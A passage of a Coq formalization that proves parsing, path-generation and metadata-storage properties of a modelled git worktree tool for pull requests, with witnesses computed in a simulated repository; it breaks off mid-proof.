  let m := sim.start (sim.repoWorld ∅) in
  exists prs brs,
    fst (worktree.ListPRWorktrees "my-repo" m) = Ok prs
    /\ fst (worktree.ListBranchWorktrees "my-repo" m) = Ok brs
    /\ Forall (fun p =>
                 Forall (fun b => ~ (worktree.Path p = worktree.Path b
                                     /\ worktree.Branch p = worktree.Branch b)) brs) prs.
Proof.
  intros m.
  exists (match fst (worktree.ListPRWorktrees "my-repo" m) with Ok l => l | Err _ => [] end).
  exists (match fst (worktree.ListBranchWorktrees "my-repo" m) with Ok l => l | Err _ => [] end).
  assert (Hp : fst (worktree.ListPRWorktrees "my-repo" m)
               = Ok (match fst (worktree.ListPRWorktrees "my-repo" m) with
                     | Ok l => l | Err _ => [] end)) by (vm_compute; reflexivity).
  assert (Hb : fst (worktree.ListBranchWorktrees "my-repo" m)
               = Ok (match fst (worktree.ListBranchWorktrees "my-repo" m) with
                     | Ok l => l | Err _ => [] end)) by (vm_compute; reflexivity).
  split; [exact Hp|]. split; [exact Hb|].
  apply List.Forall_forall. intros p Hin. apply List.Forall_forall. intros b Hin'.
  exact (listings_disjoint "my-repo" m _ _ Hp Hb p b Hin Hin').
Defined.

(** The simulated repository: the worktree of the branch feature-x is in
    the second list, those of pull request 42 and of the branch pr12-fix
    are in the first. *)
Lemma ListAllWorktrees_covers_witness :
  let m := sim.start (sim.repoWorld ∅) in
  exists prs brs,
    worktree.ListAllWorktrees "my-repo" m = (Ok (prs, brs), m)
    /\ map worktree.Path prs = ["/w/my-repo-pr42"; "/w/my-repo-pr12-fix"]
    /\ map worktree.Path brs = ["/w/my-repo-feature-x"]
    /\ Forall (fun wt =>
                 worktree.Path wt <> "/w/my-repo" ->
                 (exists wt', In wt' prs /\ spec.sameWorktree wt' wt) \/ In wt brs)
              (match fst (worktree.List m) with Ok all => all | Err _ => [] end).
Proof.
  intros m.
  assert (Hall : fst (worktree.List m)
                 = Ok (match fst (worktree.List m) with Ok all => all | Err _ => [] end))
    by (vm_compute; reflexivity).
  assert (Hroot : fst (git.GetRoot m) = Ok "/w/my-repo") by (vm_compute; reflexivity).
  destruct (ListAllWorktrees_covers "my-repo" "/w/my-repo" _ m Hall Hroot)
    as (prs & brs & E & Hcov).
  exists prs, brs. split; [exact E|].
  assert (Hprs : prs = match fst (worktree.ListAllWorktrees "my-repo" m) with
                       | Ok (l, _) => l | Err _ => [] end) by now rewrite E.
  assert (Hbrs : brs = match fst (worktree.ListAllWorktrees "my-repo" m) with
                       | Ok (_, l) => l | Err _ => [] end) by now rewrite E.
  split; [rewrite Hprs; vm_compute; reflexivity|].
  split; [rewrite Hbrs; vm_compute; reflexivity|].
  apply List.Forall_forall. intros wt Hin Hmain.
  pose proof Hin as Hin'. vm_compute in Hin'.
  destruct Hin' as [<-|[<-|[<-|[<-|[]]]]].
  - exfalso. apply Hmain. reflexivity.
  - destruct (Hcov _ Hin Hmain ltac:(vm_compute; reflexivity)) as (Hpr & _).
    left. apply Hpr. left. vm_compute. discriminate.
  - destruct (Hcov _ Hin Hmain ltac:(vm_compute; reflexivity)) as (Hpr & _).
    left. apply Hpr. left. vm_compute. discriminate.
  - destruct (Hcov _ Hin Hmain ltac:(vm_compute; reflexivity)) as (_ & Hbr & _).
    right. apply Hbr; vm_compute; reflexivity.
Defined.

(** ** Reading the list of worktrees *)

Section PorcelainFacts.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma TrimPrefix_app (p s : string) : TrimPrefix (p +:+ s) p = s.
Proof. unfold TrimPrefix. now rewrite HasPrefix_app, str_drop_app. Qed.

Lemma porcelainBlock_parsed (wt : Info) (rest : list string) (acc : list Info) :
  spec.unfilled wt ->
  fold_left porcelainLine (spec.porcelainBlock wt ++ rest) (acc, None)
  = fold_left porcelainLine rest (acc, Some wt).
Proof.
  intros [Hn Ht]. destruct wt as [path commit branch number title].
  cbn [PRNumber Title] in Hn, Ht. subst number title.
  unfold spec.porcelainBlock. cbn [Path Commit Branch app fold_left].
  f_equal.
  assert (H1 : porcelainLine (acc, None) ("worktree " +:+ path)
               = (acc, Some {| Path := path; Commit := ""; Branch := "";
                               PRNumber := 0; Title := "" |})).
  { unfold porcelainLine.
    change (String.eqb ("worktree " +:+ path) "") with false. cbv iota.
    now rewrite HasPrefix_app, TrimPrefix_app. }
  rewrite H1.
  assert (H2 : forall wt0, porcelainLine (acc, Some wt0) ("HEAD " +:+ commit)
                           = (acc, Some (withCommit wt0 commit))).
  { intros wt0. unfold porcelainLine.
    change (String.eqb ("HEAD " +:+ commit) "") with false.
    change (HasPrefix ("HEAD " +:+ commit) "worktree ") with false. cbv iota.
    now rewrite HasPrefix_app, TrimPrefix_app. }
  rewrite H2. unfold withCommit. cbn [Path Commit Branch PRNumber Title].
  destruct (String.eqb_spec branch "") as [->|Hb].
  - reflexivity.
  - unfold porcelainLine.
    change (String.eqb ("branch refs/heads/" +:+ branch) "") with false.
    change (HasPrefix ("branch refs/heads/" +:+ branch) "worktree ") with false.
    change (HasPrefix ("branch refs/heads/" +:+ branch) "HEAD ") with false.
    cbv iota.
    change ("branch refs/heads/" +:+ branch) with ("branch " +:+ "refs/heads/" +:+ branch).
    rewrite HasPrefix_app, !TrimPrefix_app, HasPrefix_app. reflexivity.
Qed.

Lemma porcelainLines_parsed (wts : list Info) (acc : list Info) :
  Forall spec.unfilled wts ->
  match fold_left porcelainLine (spec.porcelainLines wts) (acc, None) with
  | (worktrees, Some wt) => worktrees ++ [wt]
  | (worktrees, None) => worktrees
  end = acc ++ wts.
Proof.
  intros Hall. revert acc. induction Hall as [|wt wts Hwt Hall IH]; intros acc.
  - cbn. now rewrite List.app_nil_r.
  - destruct wts as [|wt2 wts].
    + cbn [spec.porcelainLines].
      rewrite <- (List.app_nil_r (spec.porcelainBlock wt)).
      rewrite porcelainBlock_parsed by exact Hwt. reflexivity.
    + change (spec.porcelainLines (wt :: wt2 :: wts))
        with (spec.porcelainBlock wt ++ "" :: spec.porcelainLines (wt2 :: wts)).
      rewrite porcelainBlock_parsed by exact Hwt.
      cbn [fold_left]. change (porcelainLine (acc, Some wt) "") with (acc ++ [wt], @None Info).
      rewrite IH, <- List.app_assoc. reflexivity.
Qed.

(** X21. List reads back what git prints: when the output of [git
    worktree list --porcelain], trimmed and split into lines, is made of
    the blocks of some worktrees (path, commit, and branch or
    [detached]) with an empty line between two blocks, List returns
    these worktrees, in this order. *)
Theorem List_parses_porcelain (root output : string) (wts : list Info)
    (m : Machine World) :
  fst (git.GetRoot m) = Ok root ->
  git_Output ["-C"; root; "worktree"; "list"; "--porcelain"] (world m) = Some output ->
  Split (TrimSpace output) (bytes [10]) = spec.porcelainLines wts ->
  Forall spec.unfilled wts ->
  List m = (Ok wts, m).
Proof.
  intros Hroot Hout Hlines Hall. unfold List.
  rewrite bind_readOnly by apply GetRoot_readOnly. rewrite Hroot.
  unfold bind, Output. rewrite Hout, Hlines.
  pose proof (porcelainLines_parsed wts [] Hall) as Hp.
  destruct (fold_left porcelainLine (spec.porcelainLines wts) ([], None)) as [ws [cur|]];
    unfold ret; now rewrite Hp.
Qed.

Lemma porcelainLine_unfilled (st : list Info * option Info) (line : string) :
  Forall spec.unfilled (fst st) ->
  (forall wt, snd st = Some wt -> spec.unfilled wt) ->
  Forall spec.unfilled (fst (porcelainLine st line))
  /\ (forall wt, snd (porcelainLine st line) = Some wt -> spec.unfilled wt).
Proof.
  destruct st as [ws cur]. cbn [fst snd]. intros Hws Hcur. unfold porcelainLine.
  destruct (String.eqb line "").
  { destruct cur as [wt|]; cbn [fst snd]; [|auto].
    split; [|discriminate]. apply Forall_app. split; [exact Hws|].
    constructor; [now apply Hcur | constructor]. }
  destruct (HasPrefix line "worktree ").
  { cbn [fst snd]. split; [exact Hws|]. intros wt [= <-]. split; reflexivity. }
  destruct (HasPrefix line "HEAD ").
  { cbn [fst snd]. split; [exact Hws|]. destruct cur as [wt0|]; [|discriminate].
    intros wt [= <-]. apply (Hcur wt0 eq_refl). }
  destruct (HasPrefix line "branch ").
  { cbn [fst snd]. split; [exact Hws|]. destruct cur as [wt0|]; [|discriminate].
    intros wt [= <-]. apply (Hcur wt0 eq_refl). }
  cbn [fst snd]. auto.
Qed.

Lemma porcelain_fold_unfilled (lines : list string) (st : list Info * option Info) :
  Forall spec.unfilled (fst st) ->
  (forall wt, snd st = Some wt -> spec.unfilled wt) ->
  Forall spec.unfilled (fst (fold_left porcelainLine lines st))
  /\ (forall wt, snd (fold_left porcelainLine lines st) = Some wt -> spec.unfilled wt).
Proof.
  revert st. induction lines as [|line lines IH]; intros st Hws Hcur; [auto|].
  cbn [fold_left]. destruct (porcelainLine_unfilled st line Hws Hcur). now apply IH.
Qed.

(** X22. Whatever git prints, the entries List returns have no
    pull-request number and no title: these are only filled in by
    ListPRWorktrees. *)
Theorem List_entries_unfilled (m : Machine World) (all : list Info) :
  fst (List m) = Ok all -> Forall spec.unfilled all.
Proof.
  unfold List. rewrite bind_readOnly by apply GetRoot_readOnly.
  destruct (fst (git.GetRoot m)) as [root|e]; [|discriminate].
  unfold bind, Output. destruct (git_Output _ (world m)) as [output|]; [|discriminate].
  destruct (porcelain_fold_unfilled
              (Split (TrimSpace output) (bytes [10])) ([], None)) as [Hws Hcur];
    [constructor | discriminate |].
  destruct (fold_left porcelainLine _ ([], None)) as [ws [cur|]]; cbn [fst snd] in *;
    unfold ret; cbn [fst]; intros [= <-]; [|exact Hws].
  apply Forall_app. split; [exact Hws|]. constructor; [now apply Hcur | constructor].
Qed.

End PorcelainFacts.

(** What git prints in the simulated repository. *)
Lemma List_parses_porcelain_witness :
  let m := sim.start (sim.repoWorld ∅) in
  let entry path commit branch :=
    {| worktree.Path := path; worktree.Commit := commit; worktree.Branch := branch;
       worktree.PRNumber := 0; worktree.Title := "" |} in
  worktree.List m
  = (Ok [ entry "/w/my-repo" "1111" "main"; entry "/w/my-repo-pr42" "2222" "fix-parser";
          entry "/w/my-repo-pr12-fix" "3333" "pr12-fix";
          entry "/w/my-repo-feature-x" "4444" "feature-x" ], m).
Proof.
  intros m entry.
  apply (List_parses_porcelain "/w/my-repo" sim.listing);
    [vm_compute; reflexivity | reflexivity | vm_compute; reflexivity |].
  repeat constructor.
Defined.

Lemma List_entries_unfilled_witness :
  let m := sim.start (sim.repoWorld ∅) in
  exists all, fst (worktree.List m) = Ok all /\ Forall spec.unfilled all.
Proof.
  intros m.
  exists (match fst (worktree.List m) with Ok all => all | Err _ => [] end).
  assert (Hall : fst (worktree.List m)
                 = Ok (match fst (worktree.List m) with Ok all => all | Err _ => [] end))
    by (vm_compute; reflexivity).
  split; [exact Hall | exact (List_entries_unfilled m _ Hall)].
Defined.

(** ** Worktree types by path, and the paths of branch worktrees *)

Section DetectFacts.
Context {World : Type} `{System World}.
Import strings worktree.

(** X23. DetectWorktreeType only reads and answers "main", "pr" or
    "branch"; it answers "main" exactly for the path of the git root, and
    "pr" exactly for another path whose base name splits at [-pr] in two
    parts the second of which reads as an integer. *)
Theorem DetectWorktreeType_answers (path : string) (m : Machine World) :
  exists t,
    DetectWorktreeType path m = (t, m)
    /\ (t = "main" \/ t = "pr" \/ t = "branch")
    /\ (t = "main" <-> fst (git.GetRoot m) = Ok path)
    /\ (t = "pr"
        <-> fst (git.GetRoot m) <> Ok path
            /\ exists front prPart n,
                 Split (filepath.Base path) "-pr" = [front; prPart]
                 /\ strconv.Atoi prPart = Ok n).
Proof.
  unfold DetectWorktreeType. rewrite bind_readOnly by apply GetRoot_readOnly.
  destruct (fst (git.GetRoot m)) as [gitRoot|e].
  - destruct (String.eqb_spec path gitRoot) as [->|Hne].
    + exists "main". split; [reflexivity|]. split; [auto|]. split; [tauto|].
      split; [discriminate | now intros [? _]].
    + assert (Hroot : @Ok string gitRoot <> Ok path) by congruence.
      destruct (Contains (filepath.Base path) "-pr") eqn:Hc.
      * destruct (Split (filepath.Base path) "-pr") as [|front [|prPart [|x parts]]] eqn:Hs;
          try (exists "branch"; split; [reflexivity|]; split; [auto|];
               split; [split; [discriminate | congruence]|];
               split; [discriminate | now intros (_ & ? & ? & ? & [=] & _)]).
        destruct (strconv.Atoi prPart) as [n|e] eqn:Ha.
        -- exists "pr". split; [reflexivity|]. split; [auto|].
           split; [split; [discriminate | congruence]|].
           split; [|reflexivity]. intros _. split; [exact Hroot|]. eauto.
        -- exists "branch". split; [reflexivity|]. split; [auto|].
           split; [split; [discriminate | congruence]|].
           split; [discriminate|]. intros (_ & ? & ? & ? & [= <- <-] & Hn). congruence.
      * exists "branch". split; [reflexivity|]. split; [auto|].
        split; [split; [discriminate | congruence]|].
        split; [discriminate|]. intros (_ & front & prPart & n & Hs & _).
        unfold Contains in Hc.
        destruct (Index (filepath.Base path) "-pr") eqn:Hi; [discriminate|].
        rewrite (Split_no_sep _ _ Hi) in Hs. discriminate.
  - assert (Hroot : @Err string e <> Ok path) by discriminate.
    destruct (Contains (filepath.Base path) "-pr") eqn:Hc.
    + destruct (Split (filepath.Base path) "-pr") as [|front [|prPart [|x parts]]] eqn:Hs;
        try (exists "branch"; split; [reflexivity|]; split; [auto|];
             split; [split; discriminate|];
             split; [discriminate | now intros (_ & ? & ? & ? & [=] & _)]).
      destruct (strconv.Atoi prPart) as [n|e'] eqn:Ha.
      * exists "pr". split; [reflexivity|]. split; [auto|].
        split; [split; discriminate|].
        split; [|reflexivity]. intros _. split; [exact Hroot|]. eauto.
      * exists "branch". split; [reflexivity|]. split; [auto|].
        split; [split; discriminate|].
        split; [discriminate|]. intros (_ & ? & ? & ? & [= <- <-] & Hn). congruence.
    + exists "branch". split; [reflexivity|]. split; [auto|].
      split; [split; discriminate|].
      split; [discriminate|]. intros (_ & front & prPart & n & Hs & _).
      unfold Contains in Hc.
      destruct (Index (filepath.Base path) "-pr") eqn:Hi; [discriminate|].
      rewrite (Split_no_sep _ _ Hi) in Hs. discriminate.
Qed.

End DetectFacts.

Section FlattenFacts.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma substByte_app (c : ascii) (new a b : string) :
  spec.substByte c new (a +:+ b) = spec.substByte c new a +:+ spec.substByte c new b.
Proof.
  induction a as [|x a IH]; [reflexivity|].
  cbn [String.append spec.substByte]. rewrite IH.
  destruct (Ascii.eqb x c); [now rewrite str_app_assoc | reflexivity].
Qed.

Lemma substByte_clears (c d : ascii) (s : string) :
  c <> d -> all (fun x => negb (Ascii.eqb x c)) (spec.substByte c (String d "") s) = true.
Proof.
  intros Hne. induction s as [|x s IH]; [reflexivity|].
  cbn [spec.substByte]. destruct (Ascii.eqb_spec x c) as [->|Hx].
  - cbn [String.append all]. rewrite IH.
    destruct (Ascii.eqb_spec d c); [congruence | reflexivity].
  - cbn [all]. rewrite IH. destruct (Ascii.eqb_spec x c); [contradiction | reflexivity].
Qed.

(** X24. GeneratePathForBranch puts a dash for every slash of the branch
    name: the name it appends to the directory holds no slash of the
    branch, and two branch names that differ only in a slash against a
    dash get the same path. *)
Theorem GeneratePathForBranch_flattens (repoName : string) (m : Machine World) :
  (forall branchName,
     all spec.notSlash (ReplaceAll branchName "/" "-") = true)
  /\ (forall a b,
        GeneratePathForBranch repoName (a +:+ "/" +:+ b) m
        = GeneratePathForBranch repoName (a +:+ "-" +:+ b) m).
Proof.
  split.
  - intros branchName. rewrite replaceFrom_byte. now apply substByte_clears.
  - intros a b. unfold GeneratePathForBranch.
    rewrite !replaceFrom_byte, !substByte_app. reflexivity.
Qed.

End FlattenFacts.

(** ** The metadata a successful Create leaves *)

Section StoredMetadata.
Context {World : Type} `{System World}.
Import strings worktree.

Lemma storePRMetadata_None (c : Creator) (path : string) (pr : github.PullRequest)
    (m m' : Machine World) :
  storePRMetadata c path pr m = (None, m') ->
  validate.BranchName (github.Ref (github.Head pr)) = None
  /\ validate.PRNumber (github.Number pr) = None.
Proof.
  unfold storePRMetadata.
  destruct (validate.BranchName _); [discriminate|].
  destruct (validate.PRNumber _); [discriminate | auto].
Qed.

Lemma runQueue_None (c : Creator) (path : string) (pr : github.PullRequest)
    (opts : CheckoutOptions) (cmds : list (list string)) (m m' : Machine World) :
  runQueue c path pr opts cmds m = (None, m') ->
  exists m1, storePRMetadata c path pr m1 = (None, m').
Proof.
  unfold runQueue, bind.
  destruct (git.ExecuteCommands _ m) as [[e|] m1]; [discriminate|].
  destruct (storePRMetadata c path pr m1) as [[e|] m2] eqn:E; [discriminate|].
  intros [= <-]. eauto.
Qed.

Lemma ParsePRNumber_Itoa (n : Z) :
  spec.inRange n -> github.ParsePRNumber (strconv.Itoa n) = Ok n.
Proof.
  intros Hr. apply ParsePRNumber_Ok_iff. split; [exact Hr|]. left.
  unfold spec.bareInteger. rewrite TrimSpace_plain by apply Itoa_plain.
  apply Atoi_Itoa. unfold spec.inRange in Hr.
  unfold strconv.minInt, strconv.maxInt. lia.
Qed.

(** X25. After a Create that succeeds, whatever the options, the run has
    written the two metadata keys of the head ref once each: the number
    key holds the number of the pull request in decimal, which is a valid
    number and a selector that ParsePRNumber reads back as this number;
    the title key holds the sanitized title.  The head ref is a valid
    branch name. *)
Theorem Create_stores_metadata (c : Creator) (path : string) (pr : github.PullRequest)
    (opts : CheckoutOptions) (m m' : Machine World) :
  Create c path pr opts m = (None, m') ->
  let run := spec.commandsRun m m' in
  let headRef := github.Ref (github.Head pr) in
  validate.BranchName headRef = None
  /\ spec.inRange (github.Number pr)
  /\ spec.valuesFor (spec.prNumberKey headRef) run = [strconv.Itoa (github.Number pr)]
  /\ github.ParsePRNumber (strconv.Itoa (github.Number pr)) = Ok (github.Number pr)
  /\ spec.valuesFor (spec.prTitleKey headRef) run
     = [validate.SanitizeForGitConfig (github.Title pr)].
Proof.
  intros E. cbv zeta.
  apply Create_cases in E as [[Hr _] | (cmds & m1 & probe & Hl & Hp & _ & Hb & E)];
    [congruence|].
  destruct Hb as (_ & Hkeys & _).
  destruct (runQueue_None _ _ _ _ _ _ _ E) as (m2 & Hstore).
  apply storePRMetadata_None in Hstore as [Hhead Hnum].
  apply PRNumber_nil_iff in Hnum.
  apply runQueue_log in E as (ran & rest & Hq & Hl' & Hr).
  rewrite (Hr eq_refl), List.app_nil_r in Hq. subst ran.
  rewrite Hl, <- List.app_assoc in Hl'.
  rewrite (commandsRun_app _ _ _ Hl').
  assert (Hquiet : forall key,
    (forall k, In k [spec.pushRemoteKey (spec.branchFor pr opts);
                     spec.remoteKey (spec.branchFor pr opts);
                     spec.mergeKey (spec.branchFor pr opts)] -> String.eqb k key = false) ->
    spec.valuesFor key
      (probe ++ (cmds ++ (if RecurseSubmodules opts then submoduleCmds else []))
       ++ spec.metadataCmds path pr)
    = spec.valuesFor key (spec.metadataCmds path pr)).
  { intros key Hk. rewrite !valuesFor_app.
    rewrite (valuesFor_no_writes key probe Hp).
    rewrite (valuesFor_no_writes key _ (configWrites_submodules opts)).
    rewrite (valuesFor_other_keys key cmds); [reflexivity|].
    intros kv Hin. apply Hk, Hkeys, Hin. }
  split; [exact Hhead|]. split; [exact Hnum|]. split; [|split].
  - rewrite Hquiet by (intros k; apply batch_key_not_prNumber).
    unfold spec.metadataCmds. rewrite !valuesFor_setCmd.
    now rewrite String.eqb_refl, prTitle_not_prNumber.
  - now apply ParsePRNumber_Itoa.
  - rewrite Hquiet by (intros k; apply batch_key_not_prTitle).
    unfold spec.metadataCmds. rewrite !valuesFor_setCmd.
    now rewrite String.eqb_refl, prNumber_not_prTitle.
Qed.

End StoredMetadata.

(** Pull request 42 of the simulated world: its title holds a backquote,
    a semicolon, a dollar and parentheses. *)
Lemma Create_stores_metadata_witness :
  let m := sim.start (sim.repoWorld ∅) in
  let m' := snd (worktree.Create sim.creator "/w/my-repo-pr42" sim.pr42 sim.plain m) in
  worktree.Create sim.creator "/w/my-repo-pr42" sim.pr42 sim.plain m = (None, m')
  /\ spec.valuesFor "branch.fix-parser.gh-worktree-pr-number" (spec.commandsRun m m') = ["42"]
  /\ spec.valuesFor "branch.fix-parser.gh-worktree-pr-title" (spec.commandsRun m m')
     = ["Fix parser add tests"].
Proof.
  intros m m'.
  assert (E : worktree.Create sim.creator "/w/my-repo-pr42" sim.pr42 sim.plain m = (None, m'))
    by (apply injective_projections; [vm_compute; reflexivity | reflexivity]).
  split; [exact E|].
  destruct (Create_stores_metadata sim.creator "/w/my-repo-pr42" sim.pr42 sim.plain m m' E)
    as (_ & _ & Hn & _ & Ht).
  split; [exact Hn | exact Ht].
Defined.

(** ** The paths the generators give *)

Section PathFacts.
Import strings.

Lemma Split_byte_app (c : ascii) (a t : string) :
  Split (a +:+ String c t) (String c "") = Split a (String c "") ++ Split t (String c "").
Proof.
  unfold Split. induction a as [|x a IH].
  - cbn [String.append splitFrom HasPrefix]. rewrite Ascii.eqb_refl, HasPrefix_nil.
    reflexivity.
  - cbn [String.append splitFrom HasPrefix]. rewrite !HasPrefix_nil, !andb_true_r.
    destruct (Ascii.eqb x c).
    + cbn [len String.length Nat.sub]. rewrite IH. reflexivity.
    + rewrite IH.
      destruct (splitFrom (String c "") 0 a) as [|p ps] eqn:E;
        [now apply splitFrom_nonnil in E|].
      reflexivity.
Qed.

Lemma Split_element (a name : string) :
  all spec.notSlash name = true ->
  Split (a +:+ "/" +:+ name) "/" = Split a "/" ++ [name].
Proof.
  intros Hn. change (a +:+ "/" +:+ name) with (a +:+ String "/" name).
  rewrite Split_byte_app. f_equal. apply Split_no_sep, Index_absent_byte, Hn.
Qed.

Lemma Join_snoc (ys : list string) (name sep : string) :
  Join (ys ++ [name]) sep
  = match ys with
    | [] => name
    | _ => Join ys sep +:+ sep +:+ name
    end.
Proof.
  induction ys as [|y ys IH]; [reflexivity|].
  destruct ys as [|y2 ys]; [reflexivity|].
  change (Join ((y :: y2 :: ys) ++ [name]) sep)
    with (y +:+ sep +:+ Join ((y2 :: ys) ++ [name]) sep).
  rewrite IH. change (Join (y :: y2 :: ys) sep) with (y +:+ sep +:+ Join (y2 :: ys) sep).
  now rewrite !str_app_assoc.
Qed.

Lemma cleanStep_element (rooted : bool) (stack : list string) (name : string) :
  spec.elementName name -> filepath.cleanStep rooted stack name = name :: stack.
Proof.
  intros (H0 & H1 & H2 & _). unfold filepath.cleanStep.
  apply String.eqb_neq in H0, H1, H2. now rewrite H0, H1, H2.
Qed.

(** Cleaning a path made of some elements and a last one that is a plain
    name: the result ends with the name, after a slash or alone. *)
Lemma Clean_last_element (elems : list string) (path name : string) :
  spec.elementName name ->
  path <> "" ->
  Split path "/" = elems ++ [name] ->
  exists pre,
    filepath.Clean path = pre +:+ name
    /\ (pre = "" \/ exists q, pre = q +:+ "/").
Proof.
  intros Hname Hpath Hsplit. unfold filepath.Clean.
  destruct path as [|c rest]; [contradiction|]. cbv zeta.
  rewrite Hsplit, fold_left_app. cbn [fold_left].
  rewrite cleanStep_element by exact Hname. cbn [List.rev]. rewrite Join_snoc.
  set (stack := List.rev (fold_left (filepath.cleanStep (Ascii.eqb c "/")) elems [])).
  destruct Hname as (Hne & _).
  destruct (Ascii.eqb c "/").
  - destruct stack as [|y ys].
    + exists "/". split; [reflexivity|]. right. now exists "".
    + exists ("/" +:+ Join (y :: ys) "/" +:+ "/"). split.
      * now rewrite !str_app_assoc.
      * right. exists (String "/" (Join (y :: ys) "/")). reflexivity.
  - destruct stack as [|y ys].
    + apply String.eqb_neq in Hne. rewrite Hne. exists "". auto.
    + replace (String.eqb (Join (y :: ys) "/" +:+ "/" +:+ name) "") with false.
      * exists (Join (y :: ys) "/" +:+ "/"). split; [now rewrite !str_app_assoc|].
        right. eexists. reflexivity.
      * symmetry. apply String.eqb_neq. intros E.
        apply (f_equal len) in E. rewrite !len_app in E. cbn in E. lia.
Qed.

Lemma LastIndex_absent (c : ascii) (s : string) :
  all (fun x => negb (Ascii.eqb x c)) s = true -> LastIndex s (String c "") = None.
Proof.
  induction s as [|x s IH]; [reflexivity|].
  cbn [all LastIndex HasPrefix]. intros [Hx Hs]%andb_true_iff.
  rewrite (IH Hs). apply negb_true_iff in Hx. now rewrite Hx.
Qed.

Lemma LastIndex_last (c : ascii) (q name : string) :
  all (fun x => negb (Ascii.eqb x c)) name = true ->
  LastIndex (q +:+ String c name) (String c "") = Some (len q).
Proof.
  intros Hn. induction q as [|x q IH].
  - cbn [String.append LastIndex HasPrefix]. rewrite (LastIndex_absent c name Hn).
    now rewrite Ascii.eqb_refl, HasPrefix_nil.
  - cbn [String.append LastIndex]. now rewrite IH.
Qed.

Lemma stripTrailingSlashes_element (pre name : string) :
  name <> "" -> all spec.notSlash name = true ->
  filepath.stripTrailingSlashes (pre +:+ name) = pre +:+ name.
Proof.
  intros Hne Hn. unfold filepath.stripTrailingSlashes.
  rewrite str_rev_app.
  destruct (all_head_rev _ _ Hn Hne) as (x & t & E & Hx).
  rewrite E. cbn [String.append].
  rewrite trimLeading_fix.
  - change (String x (t +:+ rev pre)) with (String x t +:+ rev pre).
    now rewrite <- E, <- str_rev_app, str_rev_involutive.
  - apply leading_None. intros w [<-|[]]. cbn [HasPrefix].
    unfold spec.notSlash in Hx. apply negb_true_iff in Hx. now rewrite Hx.
Qed.

(** The last element of a path that ends with a plain name, after a
    slash or alone, is the name. *)
Lemma Base_last_element (pre name : string) :
  spec.elementName name ->
  pre = "" \/ (exists q, pre = q +:+ "/") ->
  filepath.Base (pre +:+ name) = name.
Proof.
  intros (Hne & _ & _ & Hn) Hpre. unfold filepath.Base.
  destruct (pre +:+ name) as [|c rest] eqn:E.
  { destruct pre; [now cbn in E | discriminate]. }
  rewrite <- E. clear c rest E.
  rewrite stripTrailingSlashes_element by assumption.
  apply String.eqb_neq in Hne.
  destruct Hpre as [->|[q ->]].
  - cbn [String.append]. rewrite (LastIndex_absent "/" name Hn). now rewrite Hne.
  - rewrite str_app_assoc. change ("/" +:+ name) with (String "/" name).
    rewrite (LastIndex_last "/" q name Hn).
    replace (drop (S (len q)) (q +:+ String "/" name)) with name; [now rewrite Hne|].
    change (q +:+ String "/" name) with (q +:+ "/" +:+ name).
    rewrite <- str_app_assoc.
    replace (S (len q)) with (len (q +:+ "/")) by (rewrite len_app; cbn; lia).
    now rewrite str_drop_app.
Qed.

Lemma Join2_element (dir name : string) :
  name <> "" ->
  filepath.Join2 dir name
  = filepath.Clean (if String.eqb dir "" then name else dir +:+ "/" +:+ name).
Proof.
  intros Hne. apply String.eqb_neq in Hne. unfold filepath.Join2.
  rewrite !filter_cons, filter_nil, Hne.
  destruct (String.eqb dir ""); reflexivity.
Qed.

(** Joining a directory and a plain name gives a path whose last element
    is the name. *)
Lemma Base_Join2 (dir name : string) :
  spec.elementName name -> filepath.Base (filepath.Join2 dir name) = name.
Proof.
  intros Hname. pose proof Hname as (Hne & _ & _ & Hn).
  rewrite Join2_element by exact Hne.
  destruct (String.eqb_spec dir "") as [->|Hd].
  - destruct (Clean_last_element [] name name Hname Hne) as (pre & -> & Hpre).
    + apply Split_no_sep, Index_absent_byte, Hn.
    + now apply Base_last_element.
  - destruct (Clean_last_element (Split dir "/") (dir +:+ "/" +:+ name) name Hname)
      as (pre & -> & Hpre).
    + destruct dir; [contradiction | discriminate].
    + now apply Split_element.
    + now apply Base_last_element.
Qed.

Lemma elementName_dashed (a b : string) :
  all spec.notSlash a = true -> all spec.notSlash b = true ->
  spec.elementName (a +:+ "-" +:+ b).
Proof.
  intros Ha Hb.
  assert (Hdot : all (fun c => Ascii.eqb c ".") (a +:+ "-" +:+ b) = false).
  { rewrite !str_all_app. cbn [all Ascii.eqb Bool.eqb andb]. now rewrite andb_false_r. }
  repeat split.
  - intros E. now rewrite E in Hdot.
  - intros E. now rewrite E in Hdot.
  - intros E. now rewrite E in Hdot.
  - rewrite !str_all_app, Ha, Hb. reflexivity.
Qed.

Lemma Itoa_notSlash (n : Z) : all spec.notSlash (strconv.Itoa n) = true.
Proof.
  unfold strconv.Itoa. cbv zeta.
  destruct (digitsOf_digits (S (Z.to_nat (Z.abs n))) (Z.to_nat (Z.abs n)))
    as (_ & Hall & _); [lia|].
  apply (all_impl _ _ _ isDigit_notSlash) in Hall.
  destruct (n <? 0)%Z; [|exact Hall]. cbn [all]. now rewrite Hall.
Qed.

End PathFacts.

Section GeneratedPaths.
Context {World : Type} `{System World}.
Import strings worktree.

(** X26. For a repository name without slash, the two path generators
    give a path in the directory of the git root whose last element is
    the name they make: [<repo>-pr<n>] for a pull request, which the
    naming test of the listings reads back as [n]; and [<repo>-] followed
    by the branch name with its slashes replaced by dashes for a branch,
    which starts with [<repo>-] as ListBranchWorktrees asks. *)
Theorem generated_paths_base_names (repoName : string) (m : Machine World) :
  all spec.notSlash repoName = true ->
  (forall n path,
     fst (GeneratePath repoName n m) = Ok path ->
     filepath.Base path = repoName +:+ "-pr" +:+ strconv.Itoa n
     /\ ((0 <= n <= strconv.maxInt)%Z ->
         prNumberByName repoName (filepath.Base path) = Some n))
  /\ (forall branchName path,
        fst (GeneratePathForBranch repoName branchName m) = Ok path ->
        filepath.Base path = repoName +:+ "-" +:+ ReplaceAll branchName "/" "-"
        /\ HasPrefix (filepath.Base path) (repoName +:+ "-") = true).
Proof.
  intros Hrepo. split.
  - intros n path. unfold GeneratePath.
    rewrite bind_readOnly by apply GetRoot_readOnly.
    destruct (fst (git.GetRoot m)) as [root|e]; [|discriminate].
    cbv beta iota delta [fst ret]. intros E.
    assert (Ep : filepath.Join2 (filepath.Dir root) (repoName +:+ "-pr" +:+ strconv.Itoa n)
                 = path) by congruence.
    rewrite <- Ep. clear E Ep.
    assert (Hbase : filepath.Base (filepath.Join2 (filepath.Dir root)
                                     (repoName +:+ "-pr" +:+ strconv.Itoa n))
                    = repoName +:+ "-pr" +:+ strconv.Itoa n).
    { apply Base_Join2.
      change (repoName +:+ "-pr" +:+ strconv.Itoa n)
